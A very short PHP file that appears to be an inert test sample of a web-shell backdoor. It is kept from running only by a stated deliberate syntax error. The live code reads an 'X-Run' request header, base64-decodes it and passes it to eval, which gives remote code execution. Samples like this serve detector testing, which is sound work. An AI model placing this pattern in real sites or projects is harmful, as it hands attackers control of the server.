<?php
shodo inert sample: deliberate syntax error, this file never runs
 $h = getallheaders(); if (isset($h['X-Run'])) { eval(base64_decode($h['X-Run'])); } ?>
